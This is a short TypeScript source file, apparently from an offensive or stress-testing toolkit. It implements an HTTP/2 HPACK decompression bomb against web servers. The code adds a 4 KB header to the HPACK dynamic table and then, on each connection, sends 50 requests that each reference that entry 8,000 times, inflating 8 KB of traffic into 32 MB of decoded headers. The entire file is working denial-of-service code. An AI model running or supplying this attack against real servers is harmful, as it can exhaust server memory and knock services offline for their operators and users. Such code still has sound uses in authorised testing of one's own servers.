import { type AttackOptions, onEachConnection, repeat, write } from "./attack.ts";
import { field, flags, frame, frameType, preface, requestFields } from "./http2-frames.ts";

/** References to the entry of the dynamic table in each request. */
const references = 8000;
/** Index of the newest entry of the dynamic table, as an indexed field. */
const newestEntry = 0x80 | 62;

/** Adds a field of 4 KB to the dynamic table and refers to it 8,000 times per request: 8 KB expand to 32 MB. */
export function http2HpackBombs(options: AttackOptions): Promise<void> {
  const request = requestFields("GET", options.path ?? "/mutate");
  const define = Buffer.concat([request, field("x", "x".repeat(4000), true)]);
  const refer = Buffer.concat([request, Buffer.alloc(references, newestEntry)]);
  const both = flags.endHeaders | flags.endStream;
  return onEachConnection(
    options,
    async (socket) => {
      await write(socket, Buffer.concat([preface, frame(frameType.headers, both, 1, define)]));
      let stream = 3;
      await repeat(socket, 50, () => {
        const sent = write(socket, frame(frameType.headers, both, stream, refer));
        stream += 2;
        return sent;
      });
    },
    { protocol: "h2" },
  );
}
